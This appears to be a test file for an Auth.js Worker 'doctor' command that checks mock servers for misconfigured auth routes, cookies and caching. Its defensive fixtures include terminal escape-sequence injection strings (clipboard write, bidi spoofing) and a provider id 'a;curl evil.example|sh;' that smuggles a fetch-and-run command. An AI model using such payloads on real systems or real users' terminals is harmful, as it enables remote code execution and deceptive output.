// `npx authjs-worker doctor`, against servers that are wrong in one way each.

import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { test } from "node:test";
import { makeFolder } from "./support/command.mjs";

const csrf = "authjs.csrf-token=a%7Cb; Path=/; HttpOnly; SameSite=Lax";
const json = { "content-type": "application/json", "cache-control": "private, no-store" };

/** The answers of a Worker without a fault. A changed one takes the place of its path. */
const routes = (origin) => ({
  "/api/auth/providers": [
    200,
    json,
    {
      github: {
        id: "github",
        name: "GitHub",
        type: "oauth",
        signinUrl: `${origin}/api/auth/signin/github`,
        callbackUrl: `${origin}/api/auth/callback/github`,
      },
    },
  ],
  "/api/auth/csrf": [200, { ...json, "set-cookie": [csrf] }, { csrfToken: "a" }],
  "/api/auth/session": [200, json, null],
  "/api/auth/signin/github": [
    200,
    json,
    {
      url: `https://github.com/login?client_id=abc&redirect_uri=${encodeURIComponent(`${origin}/api/auth/callback/github`)}`,
    },
  ],
});

async function diagnosed(changes = () => ({}), args = []) {
  let answers;
  const server = createServer((request, response) => {
    const [status, headers, body] = answers[new URL(request.url, "http://a").pathname] ?? [
      404,
      {},
      "nothing",
    ];
    response.writeHead(status, headers).end(typeof body === "string" ? body : JSON.stringify(body));
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  const origin = `http://127.0.0.1:${server.address().port}`;
  answers = { ...routes(origin), ...changes(origin) };
  const project = makeFolder();
  try {
    return await project.command("doctor", origin, ...args);
  } finally {
    project.remove();
    server.closeAllConnections();
    server.close();
  }
}

test("a Worker without a fault", async () => {
  const { code, said } = await diagnosed();
  assert.equal(code, 0, said);
  assert.match(said, /Nothing to change\./);
  assert.match(
    said,
    /must be registered at the provider: http:\/\/127\.0\.0\.1:\d+\/api\/auth\/callback\/github/,
  );
});

const problem = "There is a problem with the server configuration.";
const faults = {
  "the Worker is not there": [{ "/api/auth/providers": [404, {}, ""] }, /does not exist \(404\)/],
  "the configuration is wrong": [
    { "/api/auth/providers": [500, json, { message: problem }] },
    /npx authjs-worker config/,
  ],
  "something in front redirects": [
    { "/api/auth/providers": [302, { location: "https://team.example/login?token=hunter2" }, ""] },
    /redirects to https:\/\/team\.example\/login \(302\)[\s\S]*Cloudflare Access/,
  ],
  "something in front refuses": [{ "/api/auth/providers": [403, {}, ""] }, /is refused \(403\)/],
  "a page answers": [
    { "/api/auth/providers": [200, { "content-type": "text/html" }, "<p>"] },
    /run_worker_first/,
  ],
  "the callback URL is that of another host": [
    (origin) => {
      const [, , body] = routes(origin)["/api/auth/providers"];
      const other = "https://other.example/api/auth/callback/github";
      return { "/api/auth/providers": [200, json, { github: { ...body.github, callbackUrl: other } }] };
    },
    /come back to https:\/\/other\.example/,
  ],
  "a cookie is open to scripts": [
    {
      "/api/auth/csrf": [
        200,
        { ...json, "set-cookie": [csrf.replace("; HttpOnly", "")] },
        { csrfToken: "a" },
      ],
    },
    /no HttpOnly/,
  ],
  "a cookie has no SameSite": [
    {
      "/api/auth/csrf": [
        200,
        { ...json, "set-cookie": [csrf.replace("; SameSite=Lax", "")] },
        { csrfToken: "a" },
      ],
    },
    /no SameSite/,
  ],
  "browsers refuse the prefix": [
    {
      "/api/auth/csrf": [
        200,
        { ...json, "set-cookie": [`__Host-${csrf}; Domain=a.example`] },
        { csrfToken: "a" },
      ],
    },
    /needs Secure, Path=\/ and no Domain/,
  ],
  "the cookie is lost": [{ "/api/auth/csrf": [200, json, { csrfToken: "a" }] }, /sets no cookie/],
  "a cache may keep the token": [
    {
      "/api/auth/csrf": [
        200,
        { ...json, "cache-control": "max-age=60", "set-cookie": [csrf] },
        { csrfToken: "a" },
      ],
    },
    /may be stored by shared caches/,
  ],
  "a session of a visitor is in a cache": [
    { "/api/auth/session": [200, json, { user: {} }] },
    /has a session for a request without/,
  ],
  "the clock is wrong": [
    (origin) => {
      const date = "Tue, 01 Jan 2030 00:00:00 GMT";
      const all = Object.entries(routes(origin));
      return Object.fromEntries(
        all.map(([path, [status, headers, body]]) => [path, [status, { ...headers, date }, body]]),
      );
    },
    /clock of 127/,
  ],
  "the client id is a placeholder": [
    { "/api/auth/signin/github": [200, json, { url: "https://github.com/login?client_id=replace-me" }] },
    /AUTH_GITHUB_ID/,
  ],
  "the provider gets another callback URL": [
    {
      "/api/auth/signin/github": [
        200,
        json,
        { url: "https://github.com/login?client_id=a&redirect_uri=https://b.example/" },
      ],
    },
    /gets the callback URL https:\/\/b\.example\//,
  ],
  "the provider cannot be reached": [
    (origin) => ({
      "/api/auth/signin/github": [200, json, { url: `${origin}/api/auth/error?error=Configuration` }],
    }),
    /refused with Configuration/,
  ],
};

for (const [name, [changes, expected]] of Object.entries(faults))
  test(`${name}: the fault and its fix are named`, async () => {
    const change = typeof changes === "function" ? changes : () => changes;
    const { code, said } = await diagnosed(change);
    assert.equal(code, 1, said);
    assert.match(said, expected);
    assert.ok(!said.includes("hunter2"));
  });

// Terminal sequences of a hostile site: colours, clearing the screen, the title (with C1 too), the clipboard, another line, bidi.
const hostile =
  "\u001b[2J\u001b]52;c;aGk=\u0007\u009b31m\u007f\r\n  ok       forged\u2028forged\u202egnp.\u2066\u200f\u061c\ufeff";
const listed = (origin, changes) => {
  const [status, headers, { github }] = routes(origin)["/api/auth/providers"];
  return { "/api/auth/providers": [status, headers, { github: { ...github, ...changes } }] };
};
const hostileTexts = {
  "the name of a provider": (origin) => listed(origin, { name: hostile }),
  "the type of a provider": (origin) => listed(origin, { type: hostile }),
  "a callback URL": (origin) => listed(origin, { callbackUrl: hostile }),
  "the client id": () => ({
    "/api/auth/signin/github": [
      200,
      json,
      {
        url: `https://github.com/?client_id=${encodeURIComponent(`<${hostile.replaceAll(/[\r\n\u2028]/g, "")}>`)}`,
      },
    ],
  }),
  "the callback URL of a sign-in": () => ({
    "/api/auth/signin/github": [
      200,
      json,
      { url: `https://github.com/?client_id=a&redirect_uri=${encodeURIComponent(hostile)}` },
    ],
  }),
  "the error of a sign-in": (origin) => ({
    "/api/auth/signin/github": [
      200,
      json,
      { url: `${origin}/api/auth/error?error=${encodeURIComponent(hostile)}` },
    ],
  }),
  "a header": () => ({
    "/api/auth/providers": [200, { "content-type": "a/\u009b31m\u0085" }, "<p>"],
  }),
  "the name of a cookie": () => ({
    "/api/auth/csrf": [200, { ...json, "set-cookie": ["csrf\u009b31m=a; Path=/"] }, { csrfToken: "a" }],
  }),
};

for (const [name, changes] of Object.entries(hostileTexts))
  test(`${name} cannot control the terminal`, async () => {
    const { said } = await diagnosed(changes);
    assert.match(said, /\\u\{9b\}31m/, "the text is shown");
    assert.doesNotMatch(said, /[\p{Cf}\p{Zl}\p{Zp}]|(?!\n)\p{Cc}/u);
    assert.doesNotMatch(said, /^ {2}ok {7}forged/m);
  });

test("a long text of a site is cut", async () => {
  const { said } = await diagnosed((origin) => listed(origin, { name: "n".repeat(100_000) }));
  assert.match(said, /n{600}…\n/);
  assert.doesNotMatch(said, /n{601}/);
});

test("an id that is a command of a shell is no id of a provider", async () => {
  const { code, said } = await diagnosed((origin) => listed(origin, { id: "a;curl evil.example|sh;" }));
  assert.equal(code, 1);
  assert.match(said, /no list of providers/);
  assert.doesNotMatch(said, /CURL|curl/);
});

test("a server that is not there", async () => {
  const project = makeFolder();
  const { code, said } = await project.command("doctor", "http://127.0.0.1:9", "--timeout", "2");
  project.remove();
  assert.equal(code, 1, said);
  assert.match(said, /refuses connections|cannot be asked|did not answer/);
});
